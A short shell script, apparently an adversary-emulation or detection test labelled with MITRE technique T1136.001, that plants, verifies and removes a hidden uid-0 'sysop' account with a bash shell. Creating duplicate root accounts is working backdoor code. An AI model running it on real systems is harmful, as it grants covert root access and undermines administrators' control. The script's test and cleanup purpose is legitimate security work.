#!/bin/sh
# T1136.001 (loud): A second account with the number 0
M=/var/tmp/luytre-foothold N=49-uid0-account
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
plant() {
  useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysop
}
prove() {
  rm -f "$M/$N"
  su sysop -c "id > /var/tmp/luytre-foothold/49-uid0-account"; seen && grep -q uid=0 $M/$N
}
remove() {
  sed -i '/^sysop:/d' /etc/passwd /etc/shadow /etc/subuid /etc/subgid 2>/dev/null
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
